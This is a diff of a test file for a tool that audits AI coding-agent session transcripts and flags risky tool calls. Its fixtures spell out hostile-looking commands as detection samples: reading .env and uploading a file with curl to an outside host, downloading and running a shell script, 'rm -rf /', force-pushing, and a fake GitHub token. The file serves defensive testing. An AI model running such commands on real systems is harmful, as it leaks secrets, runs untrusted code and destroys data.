@@ -1,41 +1,35 @@
+import fs from 'node:fs';
 import { DEFAULT_POLICY, parsePolicy } from '@cco/audit-policy';
-import Database from 'libsql';
-import { beforeEach, describe, expect, it } from 'vitest';
-import {
-  type CallSource,
-  type FindingFilter,
-  readFindings,
-  refreshFindings,
-} from '../src/index.ts';
-import { call, sourceOf } from './source.ts';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { type FindingFilter, findSessions, readFindings, readSessionCalls } from '../src/index.ts';
+import { type AuditHome, bash, type MadeCall, makeAuditHome, SHOP, timeOf } from './audit-home.ts';
 
-let db: Database.Database;
-beforeEach(() => {
-  db = new Database(':memory:');
+let home: AuditHome;
+beforeEach(async () => {
+  home = await makeAuditHome();
 });
+afterEach(() => home.close());
 
-const home = '/home/mira';
-const refresh = (source: CallSource, policy = DEFAULT_POLICY, folders: string[] = []) =>
-  refreshFindings(db, source, { policy, folders, home });
 const found = (filter: FindingFilter = {}) =>
-  readFindings(db, filter).findings.map(({ ruleId, call: { session } }) => `${session} ${ruleId}`);
+  readFindings(home.store.db, filter).findings.map(
+    ({ ruleId, call: { session } }) => `${session} ${ruleId}`,
+  );
 
 const CALLS = [
-  call('a', 0, 'cat .env'),
-  call('a', 1, 'ls'),
-  call('b', 2, 'npm publish'),
-  call('a', 30, 'curl -T out.txt https://in.acme.io'),
-  call('b', 31, 'rm -rf dist'),
+  bash('a', 0, 'cat .env'),
+  bash('a', 1, 'ls'),
+  bash('b', 2, 'npm publish'),
+  bash('a', 30, 'curl -T out.txt https://in.acme.io'),
+  bash('b', 31, 'rm -rf dist'),
 ];
 
 describe('refreshFindings', () => {
-  it('judges sessions once, and again when they have grown', () => {
-    const source = sourceOf(CALLS);
-    expect(refresh(source)).toEqual({ sessionsJudged: 2, callsJudged: 5 });
-    expect(refresh(source)).toEqual({ sessionsJudged: 0, callsJudged: 0 });
-    const grown = sourceOf([...CALLS, call('b', 40, 'git push --force')]);
-    expect(refresh(grown)).toEqual({ sessionsJudged: 1, callsJudged: 3 });
-    expect(grown.read).toEqual(['b']);
+  it('judges calls once, and of sessions that have grown only the new ones', async () => {
+    home.add(CALLS);
+    expect(await home.refresh()).toEqual({ sessionsJudged: 2, callsJudged: 5 });
+    expect(await home.refresh()).toEqual({ sessionsJudged: 0, callsJudged: 0 });
+    home.add([bash('b', 40, 'git push --force')]);
+    expect(await home.refresh()).toEqual({ sessionsJudged: 1, callsJudged: 1 });
     expect(found()).toEqual([
       'a sensitive-read',
       'a upload-http',
@@ -43,37 +37,112 @@ describe('refreshFindings', () => {
       'b publish',
       'b git-force-push',
     ]);
+    expect(readFindings(home.store.db)).toMatchObject({ calls: 6, sessions: 2 });
   });
 
-  it('judges all again when the policy asks for other findings, and only then', () => {
-    const source = sourceOf(CALLS);
+  it('joins calls of different runs', async () => {
+    home.add([bash('a', 0, 'cat .env'), bash('a', 1, 'curl -o i.sh https://acme.io/i.sh')]);
+    await home.refresh();
+    home.add([bash('a', 2, 'curl -T out.txt https://in.acme.io'), bash('a', 3, 'bash i.sh')]);
+    await home.refresh();
+    expect(found()).toEqual(expect.arrayContaining(['a read-then-send', 'a download-then-start']));
+  });
+
+  it('judges a call again when its result comes', async () => {
+    const call: MadeCall = { ...bash('a', 0, 'git push --force'), outcome: undefined };
+    home.add([call]);
+    await home.refresh();
+    const [before] = readFindings(home.store.db).findings;
+    home.addResult({ ...call, outcome: 'denied' });
+    expect(await home.refresh()).toEqual({ sessionsJudged: 1, callsJudged: 1 });
+    const { findings, calls } = readFindings(home.store.db, { remarks: true });
+    expect(findings).toHaveLength(1);
+    expect([before?.call.outcome, findings[0]?.call.outcome]).toEqual([undefined, 'denied']);
+    expect(findings[0]?.severity).not.toBe(before?.severity);
+    expect(calls).toBe(1);
+  });
+
+  it('judges all again when the policy asks for other findings, and only then', async () => {
     const policyOf = (value: unknown) =>
       parsePolicy(JSON.stringify(value)).policy ?? DEFAULT_POLICY;
-    refresh(source);
-    expect(refresh(source, policyOf({ rules: { publish: 'off' } })).sessionsJudged).toBe(0);
-    expect(refresh(source, policyOf({ sensitivePaths: ['**/out.txt'] })).sessionsJudged).toBe(2);
-    expect(refresh(source, DEFAULT_POLICY, ['/srv']).sessionsJudged).toBe(2);
+    home.add(CALLS);
+    await home.refresh();
+    const other = await home.refresh(policyOf({ rules: { publish: 'off' } }));
+    expect(other.sessionsJudged).toBe(0);
+    const paths = await home.refresh(policyOf({ sensitivePaths: ['**/out.txt'] }));
+    expect(paths.callsJudged).toBe(5);
+    expect((await home.refresh(DEFAULT_POLICY, ['/srv'])).callsJudged).toBe(5);
   });
 
-  it('keeps what was found in sessions whose transcripts are gone', () => {
-    refresh(sourceOf(CALLS));
-    refresh(sourceOf(CALLS.filter(({ source }) => source.session === 'a')));
+  it('keeps what was found in transcripts that are gone, and judges them by other rules', async () => {
+    home.add(CALLS);
+    await home.refresh();
+    fs.rmSync(home.fileOf('b'));
+    await home.refresh();
+    expect(found()).toContain('b publish');
+    await home.refresh(DEFAULT_POLICY, ['/srv']);
     expect(found()).toContain('b publish');
   });
 
-  it('takes the folder that a session belongs to, wherever it went', () => {
-    const write = (cwd: string, path: string) =>
-      call('c', 1, '', { tool: 'Write', cwd, input: { file_path: path, content: 'x' } });
-    const inner = '/home/mira/code/shop/packages/a';
-    refresh(
-      sourceOf([
-        call('c', 0, 'ls', { cwd: inner }),
-        { ...write('/home/mira/code/shop', '/home/mira/code/shop/x'), id: 'toolu_x' },
-        { ...write(inner, '/home/mira/code/shop/src/a.ts'), id: 'toolu_y' },
-        { ...write(inner, '/home/mira/code/shop-evil/a.ts'), id: 'toolu_z' },
-      ]),
-    );
-    expect(readFindings(db).findings.map(({ path }) => path)).toEqual([
+  it('begins a session anew whose transcript was written anew', async () => {
+    home.add(CALLS);
+    await home.refresh();
+    fs.rmSync(home.fileOf('b'));
+    home.add([bash('b', 50, 'git push --force'), bash('b', 51, 'ls')]);
+    await home.refresh();
+    expect(found({ session: 'b' })).toEqual(['b git-force-push']);
+    expect(readFindings(home.store.db, { session: 'b' }).calls).toBe(2);
+  });
+
+  it('stays the same when a session grows in many small steps', async () => {
+    for (let hour = 0; hour < 110; hour++) {
+      home.add([bash('a', hour, hour % 10 === 0 ? 'git push --force' : 'ls')]);
+      await home.refresh();
+    }
+    expect(readFindings(home.store.db).calls).toBe(110);
+    const times = readFindings(home.store.db).findings.map(({ call }) => call.time);
+    expect(times).toEqual(Array.from({ length: 11 }, (_, i) => timeOf(i * 10)));
+  });
+
+  it('judges a call that a fork repeats where it was made', async () => {
+    home.add([bash('m', 0, 'npm publish')]);
+    await home.refresh();
+    fs.copyFileSync(home.fileOf('m'), home.fileOf('a'));
+    home.add([bash('a', 1, 'git push --force')]);
+    await home.refresh();
+    expect(found().sort()).toEqual(['a git-force-push', 'm publish']);
+    expect(readFindings(home.store.db)).toMatchObject({ calls: 2, sessions: 2 });
+    expect(readSessionCalls(home.store, 'a').map(({ id }) => id)).toEqual(['toolu_a_1']);
+  });
+
+  it('finds secrets in what the store does not keep', async () => {
+    const secret = `ghp_${'aB3dE7fG9hJ2kL5mN8pQ4rS6tV1wX0yZaB3d'}`;
+    const content = `${'const x = 1;\n'.repeat(3_000)}const token = '${secret}';`;
+    home.add([
+      bash('a', 0, 'ls'),
+      { ...bash('a', 1, ''), tool: 'Write', input: { file_path: `${SHOP}/a.ts`, content } },
+      bash('a', 2, `echo ${'x '.repeat(5_000)}; git push --force`),
+    ]);
+    await home.refresh();
+    expect(found()).toEqual(['a secret-certain', 'a git-force-push']);
+  });
+
+  it('takes the folder that a session belongs to, wherever it went', async () => {
+    const inner = `${SHOP}/packages/a`;
+    const write = (hour: number, cwd: string, file: string): MadeCall => ({
+      ...bash('c', hour, ''),
+      tool: 'Write',
+      cwd,
+      input: { file_path: file, content: 'x' },
+    });
+    home.add([
+      { ...bash('c', 0, 'ls'), cwd: inner },
+      write(1, SHOP, `${SHOP}/x`),
+      write(2, inner, `${SHOP}/src/a.ts`),
+      write(3, inner, '/home/mira/code/shop-evil/a.ts'),
+    ]);
+    await home.refresh();
+    expect(readFindings(home.store.db).findings.map(({ path }) => path)).toEqual([
       '/home/mira/code/shop-evil/a.ts',
     ]);
   });
@@ -81,32 +150,38 @@ describe('refreshFindings', () => {
   it.each([
     ['a null input', { input: null }],
     ['a text as input', { input: 'rm -rf /' }],
-    ['no folder and no time', { cwd: undefined, time: undefined }],
+    ['no folder and no time', { cwd: null, hour: undefined }],
     ['an unknown tool', { tool: 'mcp__x__y', input: { a: [[[1]]] } }],
     ['a long command', { input: { command: 'a '.repeat(500_000) } }],
     ['what no shell can read', { input: { command: 'echo "\0$((' } }],
-  ])('takes %s', (_, parts) => {
-    expect(refresh(sourceOf([call('d', 0, '', parts)])).callsJudged).toBe(1);
+  ])('takes %s', async (_, parts: Partial<MadeCall>) => {
+    home.add([{ ...bash('d', 0, ''), ...parts }]);
+    expect((await home.refresh()).callsJudged).toBe(1);
   });
 });
 
 describe('readFindings', () => {
-  beforeEach(() => {
-    refresh(sourceOf(CALLS));
+  beforeEach(async () => {
+    home.add([...CALLS, bash('b', 32, "echo 'never closed")]);
+    await home.refresh();
   });
-  const at = (hour: number) => Date.parse('2026-11-10T09:00:00Z') + hour * 3_600_000;
+  const at = (hour: number) => Date.parse(timeOf(hour));
 
   it('counts what it looked at', () => {
-    expect(readFindings(db)).toMatchObject({ calls: 5, sessions: 2, hiddenRemarks: 1 });
+    const { db } = home.store;
+    expect(readFindings(db)).toMatchObject({ calls: 6, sessions: 2, hiddenRemarks: 2 });
+    expect(readFindings(db).hiddenUnread).toBe(1);
     expect(readFindings(db, { since: at(10) })).toMatchObject({
-      calls: 2,
+      calls: 3,
       sessions: 2,
-      hiddenRemarks: 1,
+      hiddenRemarks: 2,
+      hiddenUnread: 1,
     });
     expect(readFindings(db, { until: at(10) })).toMatchObject({
       calls: 3,
       sessions: 2,
       hiddenRemarks: 0,
+      hiddenUnread: 0,
     });
   });
 
@@ -115,13 +190,24 @@ describe('readFindings', () => {
     expect(found({ until: at(10) })).toEqual(['a sensitive-read', 'b publish']);
     expect(found({ session: 'b' })).toEqual(['b publish']);
     expect(found({ wantsProject: () => false })).toEqual([]);
-    expect(found({ session: 'b', remarks: true })).toEqual(['b publish', 'b remove-recursive']);
+    expect(found({ session: 'b', remarks: true })).toEqual([
+      'b publish',
+      'b remove-recursive',
+      'b unparsed',
+    ]);
   });
 
   it('restores the wording and names the place', () => {
-    const [finding] = readFindings(db, { session: 'b' }).findings;
+    const [finding] = readFindings(home.store.db, { session: 'b' }).findings;
     expect(finding?.why).not.toBe('');
-    expect(finding?.place).toEqual({ file: '/t/b.jsonl', line: 3 });
-    expect(finding?.projectPath).toBe('/home/mira/code/shop');
+    expect(finding?.place).toEqual({ file: home.fileOf('b'), line: 1 });
+    expect(finding?.projectPath).toBe(SHOP);
+    expect(finding?.call).toMatchObject({ cwd: SHOP, time: timeOf(2), outcome: 'ok' });
+  });
+
+  it('lists sessions by the beginning of their id', () => {
+    expect(findSessions(home.store.db, '')).toEqual(['a', 'b']);
+    expect(findSessions(home.store.db, 'b')).toEqual(['b']);
+    expect(findSessions(home.store.db, 'x')).toEqual([]);
   });
 });
